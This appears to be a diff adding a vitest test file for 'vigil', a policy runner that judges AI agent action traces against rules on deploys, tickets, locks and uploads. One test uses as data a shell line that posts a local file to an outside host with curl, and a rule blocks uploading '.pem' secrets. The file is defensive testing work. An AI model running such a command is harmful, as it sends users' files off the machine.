@@ -1,0 +1,241 @@
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { runTestFile, SmtDecider, type TestFileResult } from "@vigil/compiler";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+
+/**
+ * The policy test runner on small policies and test files written to a scratch directory: what
+ * passes, what fails and how (which engines, which events), what is bad input (a diagnostic at the
+ * place), and what the tests cover.
+ */
+
+const policy = `policy p {
+  /// A deploy follows a passing check.
+  rule checked: prec(action in {deploy}, action in {check} and status = ok)
+  /// Every opened ticket is closed.
+  rule closed: resp(action in {open} and id = $t, action in {close} and id = $t) warn
+  /// No secret leaves the machine.
+  rule no_leak: abs(action in {upload} and file ~ "*.pem")
+  /// After a lock, no write until an unlock.
+  rule locked: until(action in {lock}, action in {unlock}, action in {write})
+  /// Nothing ever fails twice in a row... (always, no trigger).
+  rule never_rm: always not (action in {rm})
+  /// A rule whose output pattern no test reaches.
+  rule reported: resp(action in {build}, action in {report} and output ~ "*done*") ask
+  /// A ping is worth a warning, no more.
+  rule noisy: abs(action in {ping}) warn
+}
+`;
+
+let dir = "";
+let decider: SmtDecider;
+beforeAll(async () => {
+  dir = mkdtempSync(join(tmpdir(), "vigil-test-run-"));
+  writeFileSync(join(dir, "p.vigil"), policy);
+  mkdirSync(join(dir, "runs"));
+  writeFileSync(join(dir, "runs", "deploy.jsonl"), ['{"action": "check", "args": {}, "status": "ok"}', '{"action": "deploy", "args": {}, "status": "ok"}'].join("\n"));
+  decider = await SmtDecider.create({ timeoutMs: 30_000 });
+});
+afterAll(async () => {
+  await decider.dispose();
+  rmSync(dir, { recursive: true, force: true });
+});
+
+async function run(text: string, options: Parameters<typeof runTestFile>[1] = {}): Promise<TestFileResult> {
+  const file = join(dir, `t${Math.random().toString(36).slice(2)}.vigiltest`);
+  writeFileSync(file, text);
+  return runTestFile(file, { decider, ...options });
+}
+
+const header = 'policy "p.vigil"\n';
+
+describe("vigil test files", () => {
+  it("passes a test whose every expectation holds on every engine", async () => {
+    const result = await run(`${header}
+test "deploy without check, unclosed ticket" {
+  events {
+    open {id: 7}
+    deploy
+    lock
+    write {path: "a"}
+    unlock
+  }
+  expect checked violated at 2
+  expect closed violated at 1
+  expect locked violated at 3 broken by 4
+  expect others hold
+  decide 2 block by checked
+  decide 4 block by locked
+  decide 5 allow
+}`);
+    expect(result.diagnostics).toEqual([]);
+    expect(result.tests.map((t) => [t.name, t.outcome, t.failures])).toEqual([["deploy without check, unclosed ticket", "passed", []]]);
+  });
+
+  it("reports a wrong witness with every engine that found otherwise, and the events to show", async () => {
+    const result = await run(`${header}
+test "t" {
+  events { deploy  check  deploy }
+  expect checked violated at 3
+}`);
+    const test = result.tests[0]!;
+    expect(test.outcome).toBe("failed");
+    expect(test.failures).toHaveLength(1);
+    expect(test.failures[0]).toMatchObject({ rule: "p.checked", engines: ["eval", "smt", "monitor"], expected: "violated at 3", actual: "violated at 1", positions: [1, 3] });
+    expect(test.failures[0]!.expectation.span.line).toBe(5);
+    expect(test.eventSpans.get(3)?.line).toBe(4);
+  });
+
+  it("compares the breaking event of an until where the test gives it", async () => {
+    const result = await run(`${header}
+test "t" {
+  events { lock  write  write }
+  expect locked violated at 1 broken by 3
+}`);
+    expect(result.tests[0]!.failures.map((f) => [f.engines, f.actual])).toEqual([[["eval", "smt"], "violated at 1 broken by 2"]]);
+  });
+
+  it("checks the monitor's decision before a call: block, ask, warn (let through with a warning) and allow", async () => {
+    const result = await run(`${header}
+test "decisions" {
+  events { deploy  build  open {id: 1}  rm }
+  expect checked violated at 1
+  decide 1 block by checked
+  decide 2 allow
+  decide 3 allow
+  decide 4 allow
+}`);
+    const failures = result.tests[0]!.failures;
+    // rm breaks an \`always\` rule with the default response, block; the others are allowed.
+    expect(failures.map((f) => [f.expected, f.actual])).toEqual([["decide 4 allow", "decide 4 block by p.never_rm"]]);
+  });
+
+  it("lets a call a warn rule objects to through, with a warning", async () => {
+    const result = await run(`${header}
+test "t" {
+  events { ping  open {id: 1} ok }
+  expect noisy violated at 1
+  expect closed violated at 2
+  decide 1 warn by noisy
+  decide 2 allow
+}
+test "wrong" { events { ping } decide 1 allow }`);
+    // An obligation left open is a violation only at the end: before the call nothing objects.
+    expect(result.tests[0]!.outcome).toBe("passed");
+    expect(result.tests[1]!.failures.map((f) => f.actual)).toEqual(["decide 1 warn by p.noisy"]);
+  });
+
+  it("reads a trace file beside the test, and says what a missing one is, at its name", async () => {
+    const result = await run(`${header}
+test "recorded" { trace "runs/deploy.jsonl" expect all hold }
+test "missing" { trace "runs/none.jsonl" expect all hold }`);
+    expect(result.tests.map((t) => t.outcome)).toEqual(["passed", "error"]);
+    const missing = result.tests[1]!.diagnostics;
+    expect(missing.map((d) => [d.code, d.span?.line, d.span?.column])).toEqual([["V2104", 4, 24]]);
+  });
+
+  it("locates a malformed event written by hand at its line (an integer beyond 2^53 is not rounded)", async () => {
+    const result = await run(`${header}
+test "t" {
+  events {
+    deploy
+    upload {file: "k.pem", size: 9007199254740993}
+  }
+  expect all hold
+}`);
+    const test = result.tests[0]!;
+    expect(test.outcome).toBe("error");
+    expect(test.diagnostics.map((d) => [d.code, d.span?.line])).toContainEqual(["V2104", 6]);
+  });
+
+  it("names an unknown rule with the nearest one as a fix, and a position beyond the run", async () => {
+    const result = await run(`${header}
+test "typo" { events { deploy } expect chekced violated at 1 }
+test "beyond" { events { deploy } expect checked violated at 2 }
+test "broken by" { events { deploy } expect checked violated at 1 broken by 1 }
+test "message" { events { user "hi"  deploy } decide 1 allow }`);
+    const codes = result.tests.map((t) => t.diagnostics.map((d) => [d.code, d.span?.line]));
+    expect(codes).toEqual([[["V2102", 3]], [["V2105", 4]], [["V2107", 5]], [["V2105", 6]]]);
+    expect(result.tests[0]!.diagnostics[0]!.fix?.edits[0]?.newText).toBe("checked");
+  });
+
+  it("refuses a file without a policy, with a policy that has errors, and a test without a run", async () => {
+    expect((await run('test "t" { events { a } expect all hold }')).diagnostics.map((d) => d.code)).toEqual(["V2101"]);
+    writeFileSync(join(dir, "bad.vigil"), "policy b { rule r: prec(action in {a}) }");
+    const broken = await run('policy "bad.vigil"\ntest "t" { events { a } expect all hold }');
+    expect(broken.diagnostics.map((d) => [d.code, d.related?.[0]?.message.slice(0, 5)])).toEqual([["V2101", "V1011"]]);
+    const noRun = await run(`${header}test "t" { expect all hold }\ntest "u" { events { a } }`);
+    expect(noRun.tests.map((t) => [t.outcome, t.diagnostics.map((d) => d.code)])).toEqual([
+      ["error", ["V2103"]],
+      ["passed", ["V2108"]],
+    ]);
+  });
+
+  it("grounds shell calls with `events ground`, each command an event after its call", async () => {
+    writeFileSync(join(dir, "shell.vigil"), "policy s { rule no_curl: abs(action in {curl}) }");
+    const result = await run(`policy "shell.vigil"
+test "t" {
+  events ground { Bash {command: "cat notes.txt && curl -d @notes.txt https://x.io"} }
+  expect no_curl violated at 4
+}`);
+    expect(result.tests[0]!.outcome).toBe("passed");
+    // curl's \`-d @notes.txt\` reads the file: a read event before the curl.
+    expect(result.tests[0]!.events.map((e) => e.action)).toEqual(["Bash", "cat", "read", "curl"]);
+  });
+
+  it("judges with the engines asked for, and runs only the tests the filter accepts", async () => {
+    const text = `${header}
+test "one" { events { deploy } expect checked violated at 1 }
+test "two" { events { check deploy } expect checked holds }`;
+    const result = await run(text, { engines: ["eval"], filter: (name) => name === "two" });
+    expect(result.tests.map((t) => t.name)).toEqual(["two"]);
+    expect(result.tests[0]!.outcome).toBe("passed");
+  });
+
+  it("covers a rule when a test violates it and one holds it non-vacuously, and lists patterns that matched nothing", async () => {
+    const result = await run(`${header}
+test "violations" {
+  events { deploy  open {id: 1}  upload {file: "k.pem"}  lock  write  rm  build  ping }
+  expect checked violated at 1
+  expect closed violated at 2
+  expect no_leak violated at 3
+  expect locked violated at 4
+  expect never_rm violated at 6
+  expect reported violated at 7
+  expect noisy violated at 8
+}
+test "vacuous" { events { check } expect all hold }
+test "held" {
+  events { check deploy  open {id: 2}  close {id: 2}  lock unlock write }
+  expect others hold
+}`);
+    expect(result.tests.map((t) => t.outcome)).toEqual(["passed", "passed", "passed"]);
+    const coverage = Object.fromEntries(result.coverage.map((c) => [c.name, { covered: c.covered, violatedBy: c.violatedBy, heldBy: c.heldBy }]));
+    expect(coverage).toEqual({
+      checked: { covered: true, violatedBy: ["violations"], heldBy: ["held"] },
+      closed: { covered: true, violatedBy: ["violations"], heldBy: ["held"] },
+      no_leak: { covered: true, violatedBy: ["violations"], heldBy: undefined },
+      locked: { covered: true, violatedBy: ["violations"], heldBy: ["held"] },
+      never_rm: { covered: true, violatedBy: ["violations"], heldBy: undefined },
+      // `reported` held only where its trigger matched nothing: vacuously.
+      reported: { covered: false, violatedBy: ["violations"], heldBy: [] },
+      noisy: { covered: true, violatedBy: ["violations"], heldBy: undefined },
+    });
+    const reported = result.coverage.find((c) => c.name === "reported")!;
+    expect(reported.patterns.map((p) => [p.role, p.matched])).toEqual([
+      ["first", 1],
+      ["second", 0],
+    ]);
+  });
+
+  it("does not count a failed expectation towards coverage", async () => {
+    const result = await run(`${header}
+test "wrong" { events { deploy } expect checked violated at 2 }`);
+    expect(result.tests[0]!.outcome).toBe("error");
+    const right = await run(`${header}
+test "wrong" { events { deploy deploy } expect checked violated at 2 }`);
+    expect(right.tests[0]!.outcome).toBe("failed");
+    expect(right.coverage.find((c) => c.name === "checked")!.violatedBy).toEqual([]);
+  });
+});
